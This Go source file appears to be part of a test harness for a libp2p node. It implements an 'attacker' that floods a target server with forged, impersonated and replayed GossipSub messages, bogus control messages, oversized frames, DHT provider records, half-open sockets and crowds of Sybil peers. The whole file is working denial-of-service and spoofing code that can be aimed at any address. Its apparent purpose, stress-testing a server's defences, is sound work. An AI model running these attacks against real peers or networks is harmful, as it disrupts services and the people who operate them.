package main

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/libp2p/go-libp2p"
	dhtpb "github.com/libp2p/go-libp2p-kad-dht/pb"
	pubsubpb "github.com/libp2p/go-libp2p-pubsub/pb"
	"github.com/libp2p/go-libp2p/core/crypto"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	libpeer "github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"
	"github.com/libp2p/go-libp2p/p2p/muxer/yamux"
	"github.com/libp2p/go-libp2p/p2p/security/noise"
	"github.com/libp2p/go-libp2p/p2p/transport/tcp"
	ma "github.com/multiformats/go-multiaddr"
	manet "github.com/multiformats/go-multiaddr/net"
	"google.golang.org/protobuf/proto"
)

const (
	meshProtocol = protocol.ID("/meshsub/1.1.0")
	// perRPC is how many subscriptions or ids go into one RPC.
	perRPC = 1000
	// attackTime bounds each attack, whatever the other side does.
	attackTime = 6 * time.Second
	// crowdTime bounds the connecting of a crowd.
	crowdTime = 20 * time.Second
)

// attacker does to one server what no library would: everything in GossipSub, the DHT and TCP that costs the sender little.
type attacker struct {
	key    crypto.PrivKey
	host   host.Host
	target libpeer.AddrInfo
	dialer string
	// deaf leaves unread what the server sends on its stream.
	deaf     bool
	mu       sync.Mutex
	stream   network.Stream
	sequence uint64
	// crowd and sockets are held open.
	crowd   []host.Host
	sockets []net.Conn
}

func hostileCommands(*lines) commands {
	a := &attacker{sequence: uint64(time.Now().UnixNano())}
	return commands{
		"start":         command(a.start),
		"gossip":        command(a.gossip),
		"subscriptions": command(a.subscriptions),
		"control":       command(a.control),
		"oversized":     command(a.oversized),
		"records":       command(a.records),
		"halfOpen":      command(a.halfOpen),
		"socketsLeft":   command(a.socketsLeft),
		"crowd":         command(a.joinCrowd),
		"crowdLeft":     command(a.crowdLeft),
		"connected":     command(a.connected),
	}
}

// plainHost is as small a host as there is: a thousand fit into one program. From is the address to call from, any when empty.
func plainHost(key crypto.PrivKey, from string) (host.Host, error) {
	transport := []any{}
	if from != "" {
		local := &net.TCPAddr{IP: net.ParseIP(from)}
		transport = append(transport, tcp.WithDialerForAddr(func(ma.Multiaddr) (tcp.ContextDialer, error) {
			return &net.Dialer{LocalAddr: local}, nil
		}))
	}
	return libp2p.New(
		libp2p.Identity(key),
		libp2p.NoListenAddrs,
		libp2p.DisableRelay(),
		libp2p.DisableMetrics(),
		libp2p.ResourceManager(&network.NullResourceManager{}),
		libp2p.Transport(tcp.NewTCPTransport, transport...),
		libp2p.Security(noise.ID, noise.New),
		libp2p.Muxer(yamux.ID, yamux.DefaultTransport),
	)
}

type hostileOptions struct {
	Target string `json:"target"`
	From   string `json:"from"`
	Deaf   bool   `json:"deaf"`
	// Topics are joined, and the server is asked for a place in its mesh.
	Topics []string `json:"topics"`
	// Protocols are as many made-up ones that identify tells.
	Protocols int `json:"protocols"`
}

func (a *attacker) start(options hostileOptions) (any, error) {
	target, err := libpeer.AddrInfoFromString(options.Target)
	if err != nil {
		return nil, err
	}
	a.target, a.dialer, a.deaf = *target, options.From, options.Deaf
	if a.key, _, err = crypto.GenerateEd25519Key(rand.Reader); err != nil {
		return nil, err
	}
	if a.host, err = plainHost(a.key, a.dialer); err != nil {
		return nil, err
	}
	for n := range options.Protocols {
		a.host.SetStreamHandler(protocol.ID(fmt.Sprintf("/made-up/%d/%s", n, strings.Repeat("x", 100))), func(s network.Stream) { _ = s.Reset() })
	}
	a.host.SetStreamHandler(meshProtocol, func(stream network.Stream) {
		if !a.deaf {
			_, _ = io.Copy(io.Discard, stream)
			_ = stream.Close()
		}
	})
	if err := a.reach(); err != nil {
		return nil, err
	}
	rpc := &pubsubpb.RPC{Control: &pubsubpb.ControlMessage{}}
	for _, topic := range options.Topics {
		rpc.Subscriptions = append(rpc.Subscriptions, &pubsubpb.RPC_SubOpts{Subscribe: proto.Bool(true), Topicid: proto.String(topic)})
		rpc.Control.Graft = append(rpc.Control.Graft, &pubsubpb.ControlGraft{TopicID: proto.String(topic)})
	}
	if len(options.Topics) > 0 {
		if err := a.send(rpc); err != nil {
			return nil, err
		}
	}
	return peerAddress{a.host.ID().String(), ""}, nil
}

// reach connects and opens a stream for GossipSub, where there is none.
func (a *attacker) reach() error {
	ctx, cancel := context.WithTimeout(context.Background(), attackTime)
	defer cancel()
	if err := a.host.Connect(ctx, a.target); err != nil {
		return err
	}
	stream, err := a.host.NewStream(ctx, a.target.ID, meshProtocol)
	if err != nil {
		return err
	}
	a.stream = stream
	return nil
}

func (a *attacker) send(rpc *pubsubpb.RPC) error {
	body, err := proto.Marshal(rpc)
	if err != nil {
		return err
	}
	return a.write(append(binary.AppendUvarint(nil, uint64(len(body))), body...))
}

func (a *attacker) write(frame []byte) error {
	a.mu.Lock()
	defer a.mu.Unlock()
	_ = a.stream.SetWriteDeadline(time.Now().Add(attackTime))
	_, err := a.stream.Write(frame)
	return err
}

// done says how far an attack got, and what ended it before its end.
type done struct {
	Sent  int    `json:"sent"`
	Ended string `json:"ended"`
}

// repeat runs step count times, or until it fails or the time is up. A stream that the server has reset is opened again.
func (a *attacker) repeat(count int, step func(n int) error) (any, error) {
	deadline := time.Now().Add(attackTime)
	for n := range count {
		err := step(n)
		if err != nil && a.reach() == nil {
			err = step(n)
		}
		if err != nil {
			return done{n, err.Error()}, nil
		}
		if time.Now().After(deadline) {
			return done{n + 1, "time"}, nil
		}
	}
	return done{count, ""}, nil
}

// gossip sends messages signed by the attacker, or nearly so. In data {hash} becomes new random digits each time and {self} the
// attacker's own peer ID.
func (a *attacker) gossip(arguments struct {
	How   string `json:"how"`
	Topic string `json:"topic"`
	Data  string `json:"data"`
	Count int    `json:"count"`
}) (any, error) {
	other, _, err := crypto.GenerateEd25519Key(rand.Reader)
	if err != nil {
		return nil, err
	}
	otherID, err := libpeer.IDFromPrivateKey(other)
	if err != nil {
		return nil, err
	}
	var first *pubsubpb.Message
	return a.repeat(arguments.Count, func(int) error {
		if first != nil && arguments.How == "replayed" {
			return a.send(&pubsubpb.RPC{Publish: []*pubsubpb.Message{first}})
		}
		hash := make([]byte, 32)
		_, _ = rand.Read(hash)
		data := strings.NewReplacer("{hash}", hex.EncodeToString(hash), "{self}", a.host.ID().String()).Replace(arguments.Data)
		a.sequence++
		message := &pubsubpb.Message{
			From:  []byte(a.host.ID()),
			Data:  []byte(data),
			Seqno: binary.BigEndian.AppendUint64(nil, a.sequence),
			Topic: proto.String(arguments.Topic),
		}
		if arguments.How == "impersonated" {
			message.From = []byte(otherID)
		}
		unsigned, err := proto.Marshal(message)
		if err != nil {
			return err
		}
		if message.Signature, err = a.key.Sign(append([]byte("libp2p-pubsub:"), unsigned...)); err != nil {
			return err
		}
		if arguments.How == "forged" {
			message.Signature[20] ^= 1
		}
		first = message
		return a.send(&pubsubpb.RPC{Publish: []*pubsubpb.Message{message}})
	})
}

// subscriptions joins as many topics as told, each with a name of its own.
func (a *attacker) subscriptions(arguments struct {
	Count  int    `json:"count"`
	Prefix string `json:"prefix"`
}) (any, error) {
	return a.repeat(arguments.Count/perRPC, func(n int) error {
		rpc := &pubsubpb.RPC{}
		for at := range perRPC {
			topic := fmt.Sprintf("%s-%d", arguments.Prefix, n*perRPC+at)
			rpc.Subscriptions = append(rpc.Subscriptions, &pubsubpb.RPC_SubOpts{Subscribe: proto.Bool(true), Topicid: &topic})
		}
		return a.send(rpc)
	})
}

// control announces ids that do not exist, asks for as many, and prunes with made-up peers.
func (a *attacker) control(arguments struct {
	Count int    `json:"count"`
	Topic string `json:"topic"`
}) (any, error) {
	return a.repeat(arguments.Count, func(n int) error {
		ids := make([]string, perRPC)
		for at := range ids {
			id := make([]byte, 46)
			_, _ = rand.Read(id)
			ids[at] = string(id)
		}
		control := &pubsubpb.ControlMessage{
			Ihave: []*pubsubpb.ControlIHave{{TopicID: &arguments.Topic, MessageIDs: ids}},
			Iwant: []*pubsubpb.ControlIWant{{MessageIDs: ids}},
			Graft: []*pubsubpb.ControlGraft{{TopicID: &arguments.Topic}},
		}
		prune := &pubsubpb.ControlPrune{TopicID: &arguments.Topic, Backoff: proto.Uint64(1 << 40)}
		for range 16 {
			key, _, _ := crypto.GenerateEd25519Key(rand.Reader)
			id, _ := libpeer.IDFromPrivateKey(key)
			prune.Peers = append(prune.Peers, &pubsubpb.PeerInfo{PeerID: []byte(id)})
		}
		if n%2 == 1 {
			control.Prune = []*pubsubpb.ControlPrune{prune}
		}
		return a.send(&pubsubpb.RPC{Control: control})
	})
}

// oversized announces an RPC of so many bytes and sends them; what ended it is the answer.
func (a *attacker) oversized(arguments struct {
	Bytes int `json:"bytes"`
}) (any, error) {
	if err := a.write(binary.AppendUvarint(nil, uint64(arguments.Bytes))); err != nil {
		return done{0, err.Error()}, nil
	}
	chunk := make([]byte, 64<<10)
	for sent := 0; sent < arguments.Bytes; sent += len(chunk) {
		if err := a.write(chunk); err != nil {
			return done{sent, err.Error()}, nil
		}
	}
	return done{arguments.Bytes, ""}, nil
}

// records tells the DHT that this peer has so many things, each with as many addresses.
func (a *attacker) records(arguments struct {
	Protocol  string `json:"protocol"`
	Count     int    `json:"count"`
	Addresses int    `json:"addresses"`
}) (any, error) {
	var stream network.Stream
	return a.repeat(arguments.Count, func(n int) error {
		if stream == nil {
			ctx, cancel := context.WithTimeout(context.Background(), attackTime)
			defer cancel()
			opened, err := a.host.NewStream(ctx, a.target.ID, protocol.ID(arguments.Protocol))
			if err != nil {
				return err
			}
			stream = opened
		}
		hash := make([]byte, 32)
		_, _ = rand.Read(hash)
		provider := &dhtpb.Message_Peer{Id: []byte(a.host.ID())}
		for at := range arguments.Addresses {
			place := (n*arguments.Addresses + at) % (1 << 24)
			address, err := ma.NewMultiaddr(fmt.Sprintf("/ip4/10.%d.%d.%d/tcp/4001", place>>16, place>>8&255, place&255))
			if err != nil {
				return err
			}
			provider.Addrs = append(provider.Addrs, address.Bytes())
		}
		body, err := proto.Marshal(&dhtpb.Message{
			Type: dhtpb.Message_ADD_PROVIDER,
			// A multihash: SHA-256, 32 bytes.
			Key:           append([]byte{0x12, 0x20}, hash...),
			ProviderPeers: []*dhtpb.Message_Peer{provider},
		})
		if err != nil {
			return err
		}
		_ = stream.SetWriteDeadline(time.Now().Add(attackTime))
		if _, err = stream.Write(append(binary.AppendUvarint(nil, uint64(len(body))), body...)); err != nil {
			stream = nil
		}
		return err
	})
}

// halfOpen leaves sockets in every state before a handshake is through: silent, amid the first words, with one half closed.
func (a *attacker) halfOpen(arguments struct {
	Count int `json:"count"`
}) (any, error) {
	_, address, err := manet.DialArgs(a.target.Addrs[0])
	if err != nil {
		return nil, err
	}
	for n := range arguments.Count {
		socket, err := net.DialTimeout("tcp", address, attackTime)
		if err != nil {
			return done{n, err.Error()}, nil
		}
		a.sockets = append(a.sockets, socket)
		if n%3 > 0 {
			_, _ = socket.Write([]byte("\x13/multistream/1.0.0\n"))
		}
		if n%3 > 1 {
			_ = socket.(*net.TCPConn).CloseWrite()
		}
	}
	return done{arguments.Count, ""}, nil
}

// socketsLeft counts those that the server has not closed.
func (a *attacker) socketsLeft(struct{}) (any, error) {
	left := 0
	buffer := make([]byte, 4096)
	for _, socket := range a.sockets {
		_ = socket.SetReadDeadline(time.Now().Add(time.Millisecond))
		var err error
		for err == nil {
			_, err = socket.Read(buffer)
		}
		var timeout net.Error
		if errors.As(err, &timeout) && timeout.Timeout() {
			left++
		}
	}
	return left, nil
}

// joinCrowd connects as so many peers, eight at a time, and stays. Answers how many thought themselves connected.
func (a *attacker) joinCrowd(arguments struct {
	Count int `json:"count"`
}) (any, error) {
	deadline := time.Now().Add(crowdTime)
	var tried, joined atomic.Int64
	var group sync.WaitGroup
	for range 8 {
		group.Add(1)
		go func() {
			defer group.Done()
			for tried.Add(1) <= int64(arguments.Count) && time.Now().Before(deadline) {
				key, _, err := crypto.GenerateEd25519Key(rand.Reader)
				if err != nil {
					return
				}
				node, err := plainHost(key, a.dialer)
				if err != nil {
					return
				}
				a.mu.Lock()
				a.crowd = append(a.crowd, node)
				a.mu.Unlock()
				ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
				if node.Connect(ctx, a.target) == nil {
					joined.Add(1)
				}
				cancel()
			}
		}()
	}
	group.Wait()
	return map[string]int64{"tried": int64(len(a.crowd)), "joined": joined.Load()}, nil
}

func (a *attacker) crowdLeft(struct{}) (any, error) {
	left := 0
	for _, node := range a.crowd {
		left += len(node.Network().Conns())
	}
	return left, nil
}

func (a *attacker) connected(struct{}) (any, error) {
	return len(a.host.Network().ConnsToPeer(a.target.ID)) > 0, nil
}
